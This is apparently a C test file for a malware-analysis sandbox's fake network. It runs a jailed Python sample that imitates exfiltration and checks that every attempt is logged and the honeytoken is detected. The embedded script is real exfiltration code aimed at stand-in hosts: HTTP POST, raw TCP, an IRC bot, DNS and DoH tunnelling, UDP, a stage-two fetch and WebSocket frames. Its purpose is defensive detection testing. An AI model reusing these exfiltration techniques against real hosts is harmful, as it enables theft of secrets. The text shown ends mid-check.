/* The fake network end to end: a real jail (jail_run) whose hooks stand in
 * for the recorder (on connect/sendto: read the sockaddr from the stopped
 * process, pt_fakenet_prepare() its port, remember which pid it was), and a
 * python3 one-liner that does what exfiltrating code does: resolve a name
 * and POST a honeytoken (raw and base64) to it, send raw TCP and UDP, start
 * TLS over IPv6 with an SNI, fetch a "second stage" from an AAAA name, and
 * smuggle the token hex-encoded in a DNS-over-TCP query, and send it split
 * across two masked WebSocket frames. Then every event
 * the fake network produced is checked field by field.
 *
 * Must run inside an outer `unshare --net` (ctest does): it refuses to run
 * where any interface but loopback exists. Only documentation addresses and names
 * under .test are used. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <jansson.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#include "events.h"
#include "fakenet.h"
#include "jail.h"
#include "pt_util.h"
#include "tokscan.h"

static int failures;
#define CHECK(cond, ...)                                                       \
  do {                                                                         \
    if (!(cond)) {                                                             \
      failures++;                                                              \
      fprintf(stderr, "not ok - %s:%d: ", __FILE__, __LINE__);                 \
      fprintf(stderr, __VA_ARGS__);                                            \
      fputc('\n', stderr);                                                     \
    } else {                                                                   \
      printf("ok - ");                                                         \
      printf(__VA_ARGS__);                                                     \
      putchar('\n');                                                           \
    }                                                                          \
  } while (0)

/* ---- the stand-in recorder ------------------------------------------ */

#define MAX_SEEN 256
struct seen {
  int proto;
  struct sockaddr_storage dst;
  pid_t pid;
};

struct ctx {
  pt_fakenet *fn;
  struct seen seen[MAX_SEEN];
  size_t nseen;
  unsigned prepare_errors;
};

static bool same_dst(const struct sockaddr *a, const struct sockaddr *b) {
  if (a->sa_family != b->sa_family)
    return false;
  if (a->sa_family == AF_INET) {
    const struct sockaddr_in *x = (const void *)a, *y = (const void *)b;
    return x->sin_port == y->sin_port && x->sin_addr.s_addr == y->sin_addr.s_addr;
  }
  const struct sockaddr_in6 *x = (const void *)a, *y = (const void *)b;
  return x->sin6_port == y->sin6_port &&
         memcmp(&x->sin6_addr, &y->sin6_addr, 16) == 0;
}

static pid_t who(void *vctx, int proto, const struct sockaddr *dst,
                 socklen_t len) {
  (void)len;
  struct ctx *c = vctx;
  for (size_t i = c->nseen; i-- > 0;)
    if (c->seen[i].proto == proto &&
        same_dst((const struct sockaddr *)&c->seen[i].dst, dst))
      return c->seen[i].pid;
  return 0;
}

static int hook_start(void *vctx, struct jail *j, pt_err **err) {
  struct ctx *c = vctx;
  return pt_fakenet_start(c->fn, j, err);
}

static int socket_type(pid_t pid, int remote_fd) {
  int pfd = (int)syscall(SYS_pidfd_open, pid, 0);
  if (pfd < 0)
    return 0;
  int fd = (int)syscall(SYS_pidfd_getfd, pfd, remote_fd, 0);
  close(pfd);
  if (fd < 0)
    return 0;
  int type = 0;
  socklen_t tl = sizeof(type);
  if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &tl) < 0)
    type = 0;
  close(fd);
  return type;
}

static void hook_notify(void *vctx, struct jail *j,
                        const struct seccomp_notif *req,
                        struct seccomp_notif_resp *resp, bool refused) {
  (void)resp;
  struct ctx *c = vctx;
  if (refused)
    return;
  uint64_t ptr, len;
  bool is_bind = req->data.nr == SYS_bind;
  if (req->data.nr == SYS_connect || is_bind) {
    ptr = req->data.args[1];
    len = req->data.args[2];
  } else if (req->data.nr == SYS_sendto) {
    ptr = req->data.args[4];
    len = req->data.args[5];
  } else {
    return;
  }
  if (ptr == 0 || len < sizeof(sa_family_t))
    return; /* send on a connected socket: prepared at its connect */
  struct sockaddr_storage ss = {0};
  size_t n = len < sizeof(ss) ? (size_t)len : sizeof(ss);
  struct iovec local = {.iov_base = &ss, .iov_len = n};
  struct iovec remote = {.iov_base = (void *)(uintptr_t)ptr, .iov_len = n};
  if (process_vm_readv(req->pid, &local, 1, &remote, 1, 0) != (ssize_t)n)
    return;
  uint16_t port;
  if (ss.ss_family == AF_INET && n >= sizeof(struct sockaddr_in))
    port = ntohs(((struct sockaddr_in *)&ss)->sin_port);
  else if (ss.ss_family == AF_INET6 && n >= sizeof(struct sockaddr_in6))
    port = ntohs(((struct sockaddr_in6 *)&ss)->sin6_port);
  else
    return;
  int type = socket_type(req->pid, (int)req->data.args[0]);
  if (is_bind) {
    /* The sample wants the port for itself: give it up. */
    if (port != 0)
      pt_fakenet_release(c->fn, type, port);
    return;
  }
  if (c->nseen < MAX_SEEN)
    c->seen[c->nseen++] = (struct seen){
        .proto = type == SOCK_DGRAM ? IPPROTO_UDP : IPPROTO_TCP,
        .dst = ss,
        .pid = req->pid};
  pt_err *err = NULL;
  if (port != 0 &&
      pt_fakenet_prepare(c->fn, j, ss.ss_family, type, port, &err) < 0) {
    c->prepare_errors++;
    pt_err_print(err);
  }
}

static void hook_exit(void *vctx, struct jail *j) {
  (void)j;
  struct ctx *c = vctx;
  pt_fakenet_finish(c->fn);
}

/* ---- event matching -------------------------------------------------- */

/* Every key of want is in got with an equal value (objects: recursively). */
static bool subset(json_t *want, json_t *got) {
  if (json_is_object(want)) {
    if (!json_is_object(got))
      return false;
    const char *k;
    json_t *v;
    json_object_foreach(want, k, v) {
      if (!subset(v, json_object_get(got, k)))
        return false;
    }
    return true;
  }
  return got != NULL && json_equal(want, got);
}

/* The first event of kind matching the template, or NULL. Steals want. */
static json_t *find(pt_events *ev, const char *kind, json_t *want) {
  json_t *all = pt_events_all(ev), *e, *hit = NULL;
  size_t i;
  json_array_foreach(all, i, e) {
    if (strcmp(json_string_value(json_object_get(e, "kind")), kind) == 0 &&
        subset(want, e)) {
      hit = e;
      break;
    }
  }
  if (hit == NULL) {
    char *s = json_dumps(want, JSON_COMPACT);
    fprintf(stderr, "# no %s event like %s\n", kind, s);
    free(s);
  }
  json_decref(want);
  return hit;
}

static const char *str(json_t *e, const char *key) {
  const char *s = e ? json_string_value(json_object_get(e, key)) : NULL;
  return s ? s : "";
}

static json_int_t pid_of(json_t *e) {
  return e ? json_integer_value(json_object_get(e, "pid")) : 0;
}

/* ---- the sample ------------------------------------------------------ */

static const char exfil_script[] =
    "import base64, os, socket, ssl, struct\n"
    "tok = os.environ['PT_TOKEN']\n"
    "def recvall(s, n):\n"
    "    b = b''\n"
    "    while len(b) < n:\n"
    "        d = s.recv(n - len(b))\n"
    "        if not d: break\n"
    "        b += d\n"
    "    return b\n"
    "def readall(s):\n"
    "    b = b''\n"
    "    while True:\n"
    "        d = s.recv(4096)\n"
    "        if not d: return b\n"
    "        b += d\n"
    "addr = socket.getaddrinfo('exfil.example.test', 8080, socket.AF_INET,\n"
    "                          socket.SOCK_STREAM)[0][4][0]\n"
    "print('A', addr)\n"
    "body = ('k=' + tok + '&b=' + base64.b64encode(tok.encode()).decode()).encode()\n"
    "s = socket.create_connection((addr, 8080), timeout=10)\n"
    "s.sendall(b'POST /upload?id=7 HTTP/1.1\\r\\nHost: exfil.example.test:8080\\r\\n'\n"
    "          b'User-Agent: pt-test/1.0\\r\\n'\n"
    "          b'Content-Type: application/x-www-form-urlencoded\\r\\n'\n"
    "          b'Content-Length: %d\\r\\n\\r\\n' % len(body) + body)\n"
    "print('HTTP', readall(s).split(b'\\r\\n')[0].decode())\n"
    "s.close()\n"
    "again = socket.getaddrinfo('EXFIL.Example.TEST', 80, socket.AF_INET)[0][4][0]\n"
    "print('SAME', again == addr)\n"
    "s = socket.create_connection(('198.51.100.23', 4444), timeout=10)\n"
    "s.sendall(b'RAW:' + tok[::-1].encode())\n"
    "s.close()\n"
    "import json\n"
    "s = socket.create_connection(('198.51.100.24', 4445), timeout=10)\n"
    "s.sendall(b'{\"d\":\"' + base64.b64encode(base64.b64encode(json.dumps({'env': {'K': tok}}).encode())) + b'\"}')\n"
    "s.close()\n"
    "irc = socket.create_connection(('198.51.100.25', 6667), timeout=10)\n"
    "irc.sendall(b'NICK bot7\\r\\nUSER bot7 0 * :bot7\\r\\n')\n"
    "got = b''\n"
    "while b' 376 ' not in got:\n"
    "    d = irc.recv(4096)\n"
    "    if not d: break\n"
    "    got += d\n"
    "if b' 001 bot7 ' in got:\n"
    "    irc.sendall(b'JOIN #c\\r\\nPRIVMSG #c :k=' + tok.encode() + b'\\r\\nQUIT\\r\\n')\n"
    "print('IRC', b' 001 bot7 ' in got)\n"
    "irc.close()\n"
    "hx = tok.encode().hex()\n"
    "d = socket.create_connection(('198.51.100.26', 80), timeout=10)\n"
    "d.sendall(('GET /resolve?name=%s.%s.doh.example.test&type=TXT HTTP/1.1'\n"
    "           '\\r\\nHost: dns.google\\r\\n\\r\\n' % (hx[:40], hx[40:])).encode())\n"
    "r = readall(d)\n"
    "print('DOH', b'application/dns-json' in r and b'\"Status\":0' in r)\n"
    "d.close()\n"
    "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "u.sendto(b'UDP:' + tok.encode().hex().encode(), ('203.0.113.5', 9999))\n"
    "u.close()\n"
    "raw = socket.create_connection(('2001:db8::1', 443), timeout=10)\n"
    "ctx = ssl.create_default_context()\n"
    "ctx.set_alpn_protocols(['h2', 'http/1.1'])\n"
    "try:\n"
    "    ctx.wrap_socket(raw, server_hostname='cdn.example.test')\n"
    "    print('TLS handshake completed?!')\n"
    "except (ssl.SSLError, OSError):\n"
    "    print('TLS failed')\n"
    "a6 = socket.getaddrinfo('v6.example.test', 80, socket.AF_INET6,\n"
    "                        socket.SOCK_STREAM)[0][4][0]\n"
    "print('AAAA', a6)\n"
    "s = socket.create_connection((a6, 80), timeout=10)\n"
    "s.sendall(b'GET /stage2.sh HTTP/1.1\\r\\nHost: v6.example.test\\r\\n\\r\\n')\n"
    "r = readall(s)\n"
    "s.close()\n"
    "body = r.split(b'\\r\\n\\r\\n', 1)[-1]\n"
    "print('HTTP6', r.split(b'\\r\\n')[0].decode(),\n"
    "      body.startswith(b'#!/bin/sh\\nexit 0\\n#') and len(body) == 4096)\n"
    "hx = tok.encode().hex()\n"
    "name = hx[:40] + '.' + hx[40:] + '.d.example.test'\n"
    "q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)\n"
    "q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.'))\n"
    "q += b'\\0' + struct.pack('>HH', 16, 1)\n"
    "t = socket.create_connection(('192.0.2.53', 53), timeout=10)\n"
    "t.sendall(struct.pack('>H', len(q)) + q)\n"
    "n = struct.unpack('>H', recvall(t, 2))[0]\n"
    "a = recvall(t, n)\n"
    "t.close()\n"
    "print('TCPDNS', a[:2] == b'\\x12\\x34', a[3] & 15, struct.unpack('>H', a[6:8])[0])\n"
    "import hashlib\n"
    "def frame(op, p):\n"
    "    m = os.urandom(4)\n"
    "    return bytes([op, 0x80 | len(p)]) + m + bytes(b ^ m[i % 4] for i, b in enumerate(p))\n"
    "key = base64.b64encode(os.urandom(16)).decode()\n"
    "w = socket.create_connection(('ws.example.test', 80), timeout=10)\n"
    "w.sendall(('GET /feed HTTP/1.1\\r\\nHost: ws.example.test\\r\\nUpgrade: websocket\\r\\n'\n"
    "           'Connection: Upgrade\\r\\nSec-WebSocket-Key: %s\\r\\n'\n"
    "           'Sec-WebSocket-Version: 13\\r\\n\\r\\n' % key).encode())\n"
    "h = b''\n"
    "while b'\\r\\n\\r\\n' not in h:\n"
    "    d = w.recv(1)\n"
    "    if not d: break\n"
    "    h += d\n"
    "want = base64.b64encode(hashlib.sha1((key + '258EAFA5-E914-47DA-95CA-C5AB0DC85B11').encode()).digest())\n"
    "t = tok.encode()\n"
    "w.sendall(frame(0x01, b'{\"t\":\"' + t[:10]) + frame(0x80, t[10:] + b'\"}') + frame(0x88, b'\\x03\\xe8'))\n"
    "print('WS', h.split(b'\\r\\n')[0].decode(), b'Sec-WebSocket-Accept: ' + want in h, readall(w) == b'\\x88\\x00')\n"
    "w.close()\n";

static const char *const host_ro[] = {"/usr",        "/bin",
                                      "/lib",        "/lib64",
                                      "/etc/ld.so.cache", "/etc/ssl",
                                      "/etc/nsswitch.conf", "/etc/python3",
                                      "/etc/python3.11", NULL};

/* The safety belt: a network namespace with nothing but loopback (what
 * `unshare --net` gives), so even a broken jail reaches nothing. */
static bool only_loopback(void) {
  struct if_nameindex *ifs = if_nameindex();
  if (ifs == NULL)
    return false;
  bool ok = true;
  for (struct if_nameindex *p = ifs; p->if_index != 0; p++)
    if (strcmp(p->if_name, "lo") != 0)
      ok = false;
  if_freenameindex(ifs);
  return ok;
}

/* One jailed run of a python3 script with the fake network (ctx->fn, made
 * from cfg when NULL: a second run reuses it, as the next phase would);
 * fills *res. 0, or -1 when the jail itself failed. */
static int run_sample(const char *script, const char *tok,
                      struct pt_fakenet_config *cfg, struct ctx *ctx,
                      struct jail_result *res) {
  pt_err *err = NULL;
  cfg->who = who;
  cfg->who_ctx = ctx;
  if (ctx->fn == NULL)
    ctx->fn = pt_fakenet_new(cfg, &err);
  if (ctx->fn == NULL) {
    pt_err_print(err);
    return -1;
  }
  const char *tmp = getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp";
  char state[512], home[600];
  snprintf(state, sizeof(state), "%s/pkgtrap-fakenet-XXXXXX", tmp);
  if (mkdtemp(state) == NULL || chmod(state, 0711) < 0) {
    perror("state dir");
    return -1;
  }
  snprintf(home, sizeof(home), "%s/home", state);
  struct jail_spec spec = {0};
  jail_pick_host_ids(&spec.host_uid, &spec.host_gid);
  if (mkdir(home, 0700) < 0 ||
      (geteuid() == 0 && chown(home, spec.host_uid, spec.host_gid) < 0)) {
    perror("home dir");
    pt_rmtree(state, NULL);
    return -1;
  }
  char tokenv[64];
  snprintf(tokenv, sizeof(tokenv), "PT_TOKEN=%s", tok);
  char *argv[] = {"/usr/bin/python3", "-c", (char *)script, NULL};
  char *envp[] = {"PATH=/usr/bin:/bin", "HOME=/home/tester", "LANG=C.UTF-8",
                  tokenv, NULL};
  static const struct jail_notify_rule rules[] = {
      {.syscall = "connect"}, {.syscall = "sendto"}, {.syscall = "bind"}};
  static const struct jail_hooks hooks = {
      .on_start = hook_start, .on_notify = hook_notify, .on_exit = hook_exit};
  spec.argv = argv;
  spec.envp = envp;
  spec.id = (struct jail_identity){.user = "tester",
                                   .hostname = "ws-17",
                                   .home = "/home/tester",
                                   .uid = 1000,
                                   .gid = 1000};
  spec.home_src = home;
  spec.host_ro = host_ro;
  spec.seccomp_policy = PKGTRAP_PROFILES_DIR "/seccomp.json";
  spec.notify = rules;
  spec.n_notify = PT_ARRAY_LEN(rules);
  jail_limits_default(&spec.limits);
  spec.limits.timeout_ms = 60000;
#ifdef PKGTRAP_SANITIZE
  /* Rootless there is no cgroup, and the RLIMIT_DATA fallback is set in
   * init before it forks and execs CMD: ASan's allocator, still live in
   * that ASan-built child, then fails to mmap ("ERROR: Failed to mmap")
   * for a size class it had not used yet. Not the fake network's business:
   * no memory limit in sanitizer builds. */
  spec.limits.memory_bytes = 0;
#endif
  spec.out_fd = -1;
  spec.err_fd = STDERR_FILENO;
  spec.state_dir = state;
  spec.hooks = &hooks;
  spec.hooks_ctx = ctx;
  int rc = jail_run(&spec, res, &err);
  pt_rmtree(state, NULL);
  if (rc < 0) {
    pt_err_print(err);
    return -1;
  }
  printf("# sample's stdout:\n%s", res->out.data ? res->out.data : "");
  return 0;
}

static void dump_on_failure(pt_events *events, int before) {
  if (failures == before)
    return;
  char *all = json_dumps(pt_events_all(events), JSON_INDENT(1));
  fprintf(stderr, "# events:\n%s\n", all);
  free(all);
}

/* What an exfiltrating sample does, every protocol once. */
static const char limits_script[] =
    "import socket, time\n"
    "def readall(s):\n"
    "    b = b''\n"
    "    try:\n"
    "        while True:\n"
    "            d = s.recv(4096)\n"
    "            if not d: return b\n"
    "            b += d\n"
    "    except ConnectionResetError:\n"
    "        return b + b'<reset>'\n"
    "held = [socket.create_connection(('192.0.2.20', 7100)) for _ in range(3)]\n"
    "x = socket.create_connection(('192.0.2.20', 7100))\n"
    "print('REFUSED', readall(x) in (b'', b'<reset>'))\n"
    "x.close()\n"
    "for h in held: h.close()\n"
    "s = socket.create_connection(('192.0.2.10', 7000))\n"
    "s.sendall(b'HELO 1234\\n')\n"
    "t0 = time.monotonic()\n"
    "r = readall(s)\n"
    "print('IDLE', r == b'', time.monotonic() - t0 >= 0.2)\n"
    "s.close()\n"
    "s = socket.create_connection(('192.0.2.11', 8000))\n"
    "s.sendall(b'POST /big HTTP/1.1\\r\\nHost: big.example.test\\r\\n'\n"
    "          b'Content-Length: 5000\\r\\n\\r\\n' + b'x' * 5000)\n"
    "print('BIG', readall(s).split(b'\\r\\n')[0].decode())\n"
    "s.close()\n"
    "s = socket.create_connection(('192.0.2.12', 8001))\n"
    "s.sendall(b'PUT /part HTTP/1.1\\r\\nHost: Part.Example.Test:8001\\r\\n'\n"
    "          b'Content-Length: 100\\r\\n\\r\\nonly-ten!!')\n"
    "s.shutdown(socket.SHUT_WR)\n"
    "print('HALF', readall(s).split(b'\\r\\n')[0].decode())\n"
    "s.close()\n"
    "c = socket.create_connection(('127.0.0.1', 5555))\n"
    "c.close()\n"
    "srv = socket.socket()\n"
    "srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
    "srv.bind(('0.0.0.0', 5555))\n"
    "srv.listen()\n"
    "c = socket.create_connection(('127.0.0.1', 5555))\n"
    "a, _ = srv.accept()\n"
    "c.sendall(b'ping')\n"
    "print('OWN', a.recv(4) == b'ping')\n"
    "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "for i in range(5): u.sendto(b'd%d' % i, ('203.0.113.9', 5353))\n"
    "n = [socket.getaddrinfo(h, 80, socket.AF_INET)[0][4][0]\n"
    "     for h in ('a.example.test', 'b.example.test', 'c.example.test')]\n"
    "print('OVER', n[2])\n";

static size_t count_events(pt_events *ev, const char *kind, json_t *want) {
  json_t *e;
  size_t i, n = 0;
  json_array_foreach(pt_events_all(ev), i, e) {
    if (strcmp(str(e, "kind"), kind) == 0 && subset(want, e))
      n++;
  }
  json_decref(want);
  return n;
}

/* Small limits, and what happens at each: too many connections, silence,
 * a request beyond the capture cap, a half-closed request, the sample's
 * own server on a port we held, a datagram flood, too many names. */
static int scenario_limits(pt_tok_scanner *tokens, const char *tok) {
  int before = failures;
  pt_err *err = NULL;
  pt_events *events = pt_events_new(10000, &err);
  if (events == NULL) {
    pt_err_print(err);
    return -1;
  }
  struct ctx ctx = {0};
  struct pt_fakenet_config cfg = {.events = events,
                                  .tokens = tokens,
                                  .capture_cap = 1024,
                                  .max_conns = 3,
                                  .max_names = 2,
                                  .max_udp_events = 2,
                                  .idle_ms = 300};
  struct jail_result res;
  if (run_sample(limits_script, tok, &cfg, &ctx, &res) < 0) {
    pt_fakenet_free(ctx.fn);
    pt_events_free(events);
    return -1;
  }
  const char *out = res.out.data ? res.out.data : "";
  CHECK(res.outcome == JAIL_EXITED && res.exit_code == 0,
        "limits: python exited 0 (outcome %d, code %d)", (int)res.outcome,
        res.exit_code);
  struct pt_fakenet_stats st;
  pt_fakenet_stats(ctx.fn, &st);
  CHECK(strstr(out, "REFUSED True\n") && st.conns_refused == 1,
        "the 4th connection at max_conns 3 is closed at once (refused %llu)",
        (unsigned long long)st.conns_refused);
  CHECK(count_events(events, "net",
                     json_pack("{s:s,s:i,s:i,s:s}", "address", "192.0.2.20",
                               "port", 7100, "bytes", 0, "closed", "eof")) == 3,
        "the 3 held connections are reported, the refused one is not");
  CHECK(strstr(out, "IDLE True True\n") &&
            find(events, "net",
                 json_pack("{s:s,s:i,s:i,s:s,s:b}", "address", "192.0.2.10",
                           "port", 7000, "bytes", 10, "closed", "idle",
                           "truncated", 0)) != NULL,
        "a silent connection is closed after idle_ms");
  size_t hdr = strlen("POST /big HTTP/1.1\r\nHost: big.example.test\r\n"
                      "Content-Length: 5000\r\n\r\n");
  CHECK(strstr(out, "BIG HTTP/1.1 200 OK\n") &&
            find(events, "net",
                 json_pack("{s:s,s:i,s:I,s:b,s:s,s:s,s:{s:s,s:s,s:I,s:b}}",
                           "address", "192.0.2.11", "port", 8000, "bytes",
                           (json_int_t)(hdr + 5000), "truncated", 1,
                           "closed", "eof", "hostname", "big.example.test",
                           "http", "method", "POST", "path", "/big",
                           "content_length", (json_int_t)5000, "complete",
                           0)) != NULL,
        "a POST beyond the capture cap is answered at the cap, bytes counted");
  CHECK(strstr(out, "HALF HTTP/1.1 200 OK\n") &&
            find(events, "net",
                 json_pack("{s:s,s:i,s:s,s:{s:s,s:b}}", "address",
                           "192.0.2.12", "port", 8001, "hostname",
                           "part.example.test", "http", "method", "PUT",
                           "complete", 0)) != NULL,
        "a half-closed short request is answered at EOF; Host names it");
  CHECK(strstr(out, "OWN True\n") != NULL && ctx.prepare_errors == 1,
        "released port 5555 to the sample's own server (then prepare failed "
        "%u time)", ctx.prepare_errors);
  CHECK(count_events(events, "net",
                     json_pack("{s:s,s:i}", "proto", "udp", "port", 5353)) ==
                2 &&
            st.udp_events_dropped == 3,
        "datagram events capped at 2, 3 counted as dropped");
  CHECK(strstr(out, "OVER 198.19.255.254\n") && st.names_overflow == 1,
        "the 3rd name at max_names 2 gets the shared overflow address");
  CHECK(find(events, "fakenet_limits",
             json_pack("{s:i,s:i,s:i}", "conns_refused", 1, "names_overflow",
                       1, "udp_events_dropped", 3)) != NULL,
        "limits reported in a fakenet_limits event");
  dump_on_failure(events, before);
  jail_result_free(&res);
  pt_fakenet_free(ctx.fn);
  pt_events_free(events);
  return 0;
}

static int scenario_exfil(pt_tok_scanner *tokens, const char *tok) {
  int before = failures;
  pt_err *err = NULL;
  pt_events *events = pt_events_new(10000, &err);
  if (events == NULL) {
    pt_err_print(err);
    return -1;
  }
  if (getenv("FAKENET_TRACE"))
    pt_events_trace_to(events, getenv("FAKENET_TRACE"), NULL);
  struct ctx ctx = {0};
  struct pt_fakenet_config cfg = {.events = events, .tokens = tokens};
  struct jail_result res;
  if (run_sample(exfil_script, tok, &cfg, &ctx, &res) < 0) {
    pt_fakenet_free(ctx.fn);
    pt_events_free(events);
    return -1;
  }
  const char *out = res.out.data ? res.out.data : "";
  CHECK(res.outcome == JAIL_EXITED && res.exit_code == 0,
        "python exited 0 (outcome %d, code %d)", (int)res.outcome,
        res.exit_code);
  CHECK(ctx.prepare_errors == 0, "every prepare succeeded");

  /* 1. DNS over UDP: a sinkhole address of its own for the name. */
  json_t *dns = find(events, "dns",
                     json_pack("{s:s,s:s,s:s}", "name", "exfil.example.test",
                               "qtype", "A", "proto", "udp"));
  const char *sink = str(dns, "answer");
  CHECK(strncmp(sink, "198.18.", 7) == 0, "A exfil.example.test -> %s", sink);
  CHECK(pid_of(dns) > 0, "dns query attributed to pid %lld",
        (long long)pid_of(dns));
  char line[128];
  snprintf(line, sizeof(line), "A %s\n", sink);
  CHECK(strstr(out, line) != NULL, "the sample got %s", sink);
  json_t *again = find(events, "dns",
                       json_pack("{s:s,s:s}", "name", "EXFIL.Example.TEST",
                                 "answer", sink));
  CHECK(again != NULL && strstr(out, "SAME True") != NULL,
        "same name (other case), same address");

  /* 2. The HTTP POST to the sinkhole address: attributed to the name. */
  json_t *post = find(
      events, "net",
      json_pack("{s:s,s:s,s:s,s:i,s:s,s:{s:s,s:s,s:s,s:s,s:s,s:b}}", "proto",
                "tcp", "family", "ipv4", "address", sink, "port", 8080,
                "hostname", "exfil.example.test", "http", "method", "POST",
                "path", "/upload?id=7", "host", "exfil.example.test:8080",
                "user_agent", "pt-test/1.0", "content_type",
                "application/x-www-form-urlencoded", "complete", 1));
  CHECK(post != NULL, "net event: POST http://exfil.example.test:8080/upload");
  CHECK(pid_of(post) > 0 && pid_of(post) == pid_of(dns),
        "POST attributed to the sample's pid");
  CHECK(strstr(out, "HTTP HTTP/1.1 200 OK\n") != NULL,
        "the sample read our 200 OK");
  CHECK(find(events, "honeytoken",
             json_pack("{s:s,s:s,s:s,s:s,s:i,s:s}", "token", "test_token",
                       "encoding", "raw", "where", "http-body", "address", sink,
                       "port", 8080, "hostname", "exfil.example.test")) != NULL,
        "token in the POST body (raw)");
  CHECK(find(events, "honeytoken",
             json_pack("{s:s,s:s,s:s}", "token", "test_token", "encoding",
                       "base64", "where", "http-body")) != NULL,
        "token in the POST body (base64)");

  /* 3. Raw TCP to a literal address. */
  json_t *rawc = find(events, "net",
                      json_pack("{s:s,s:s,s:i,s:n,s:i,s:s}", "proto", "tcp",
                                "address", "198.51.100.23", "port", 4444,
                                "hostname", "bytes", 4 + 32, "closed", "eof"));
  CHECK(rawc != NULL && strncmp(str(rawc, "excerpt"), "RAW:", 4) == 0 &&
            json_object_get(rawc, "http") == NULL,
        "raw TCP to 198.51.100.23:4444, 36 bytes, no name");
  CHECK(find(events, "honeytoken",
             json_pack("{s:s,s:s,s:s}", "token", "test_token", "encoding",
                       "reversed", "where", "tcp:198.51.100.23:4444")) != NULL,
        "reversed token over raw TCP");

  CHECK(find(events, "honeytoken",
             json_pack("{s:s,s:s,s:s}", "token", "test_token", "encoding",
                       "base64/base64", "where", "tcp:198.51.100.24:4445")) != NULL,
        "a JSON base64'd twice: decoded and scanned again");

  char hx[65], qname[128];
  for (size_t i = 0; i < 32; i++)
    snprintf(hx + 2 * i, 3, "%02x", (unsigned char)tok[i]);

  /* An IRC bot that waits for the server's welcome before it talks. */
  CHECK(strstr(out, "IRC True\n") != NULL,
        "an IRC client's registration is answered with the welcome");
  CHECK(find(events, "honeytoken",
             json_pack("{s:s,s:s,s:s}", "token", "test_token", "encoding",
                       "raw", "where", "tcp:198.51.100.25:6667")) != NULL,
        "the token its PRIVMSG sent after the welcome");

  /* DNS over HTTPS's JSON API: the fake resolver's answer, a dns event
   * (proto doh) and the token hex-encoded in its labels. */
  CHECK(strstr(out, "DOH True\n") != NULL,
        "a DoH JSON request is answered as Google's resolver would");
  snprintf(qname, sizeof(qname), "%.40s.%s.doh.example.test", hx, hx + 40);
  CHECK(find(events, "dns",
             json_pack("{s:s,s:s,s:s}", "name", qname, "qtype", "TXT",
                       "proto", "doh")) != NULL,
        "the DoH query is a dns event (proto doh)");
  json_t *htok = find(events, "honeytoken",
                      json_pack("{s:s,s:s,s:s}", "token", "test_token",
                                "where", "dns", "name", qname));
  CHECK(htok != NULL, "the token in the DoH query's name");

  /* 4. A UDP datagram. */
  json_t *udp = find(events, "net",
                     json_pack("{s:s,s:s,s:s,s:i,s:i}", "proto", "udp",
                               "family", "ipv4", "address", "203.0.113.5",
                               "port", 9999, "bytes", 4 + 64));
  CHECK(udp != NULL && pid_of(udp) > 0, "UDP datagram to 203.0.113.5:9999");
  CHECK(find(events, "honeytoken",
             json_pack("{s:s,s:s,s:s}", "token", "test_token", "encoding",
                       "hex", "where", "udp:203.0.113.5:9999")) != NULL,
        "hex token over UDP");

  /* 5. TLS over IPv6: SNI and ALPN from the ClientHello. */
  json_t *tls = find(
      events, "net",
      json_pack("{s:s,s:s,s:s,s:i,s:s,s:s,s:[ss],s:s}", "proto", "tcp",
                "family", "ipv6", "address", "2001:db8::1", "port", 443, "sni",
                "cdn.example.test", "hostname", "cdn.example.test", "alpn",
                "h2", "http/1.1", "closed", "tls"));
  CHECK(tls != NULL && pid_of(tls) > 0,
        "TLS to [2001:db8::1]:443, SNI cdn.example.test, ALPN h2,http/1.1");
  CHECK(strstr(out, "TLS failed\n") != NULL, "the handshake failed (no server)");

  /* 6. AAAA and a second-stage fetch over IPv6 to the sinkhole. */
  json_t *aaaa = find(events, "dns",
                      json_pack("{s:s,s:s}", "name", "v6.example.test",
                                "qtype", "AAAA"));
  const char *sink6 = str(aaaa, "answer");
  CHECK(strncmp(sink6, "2001:db8:5ee::", 14) == 0, "AAAA v6.example.test -> %s",
        sink6);
  CHECK(find(events, "net",
             json_pack("{s:s,s:s,s:i,s:s,s:{s:s,s:s}}", "family", "ipv6",
                       "address", sink6, "port", 80, "hostname",
                       "v6.example.test", "http", "method", "GET", "path",
                       "/stage2.sh")) != NULL,
        "GET /stage2.sh attributed to v6.example.test");
  CHECK(strstr(out, "HTTP6 HTTP/1.1 200 OK True\n") != NULL,
        "the sample got a harmless shell script, padded to 4 KiB");

  /* 7. DNS over TCP with the token hex-encoded across labels. */
  snprintf(qname, sizeof(qname), "%.40s.%s.d.example.test", hx, hx + 40);
  json_t *tcpdns = find(events, "dns",
                        json_pack("{s:s,s:s,s:s,s:n,s:s}", "name", qname,
                                  "qtype", "TXT", "proto", "tcp", "answer",
                                  "server", "192.0.2.53"));
  CHECK(tcpdns != NULL, "TXT query over TCP to 192.0.2.53");
  CHECK(strstr(out, "TCPDNS True 0 1\n") != NULL,
        "TCP DNS answered: same id, NOERROR, one answer");
  json_t *dtok = find(events, "honeytoken",
                      json_pack("{s:s,s:s,s:s}", "token", "test_token",
                                "where", "dns", "name", qname));
  CHECK(dtok != NULL && strstr(str(dtok, "encoding"), "hex") != NULL,
        "token in the DNS name (%s)", str(dtok, "encoding"));

  /* 8. A WebSocket: the handshake answered as clients check it, the
   * masked frames unmasked for the scan, our close frame. */
  CHECK(strstr(out, "WS HTTP/1.1 101 Switching Protocols True True\n") != NULL,
        "WebSocket: 101 with the right Accept, our close frame");
  CHECK(find(events, "net",
             json_pack("{s:s,s:i,s:s,s:{s:s,s:{s:i,s:i,s:b}}}", "proto", "tcp",
                       "port", 80, "hostname", "ws.example.test", "http",
                       "path", "/feed", "websocket", "frames", 3,
                       "data_frames", 2, "closed", 1)) != NULL,
        "net event: WebSocket /feed, 3 frames, closed");
  CHECK(find(events, "honeytoken",
             json_pack("{s:s,s:s,s:s,s:s}", "token", "test_token", "encoding",
                       "raw", "where", "websocket", "hostname",
                       "ws.example.test")) != NULL,
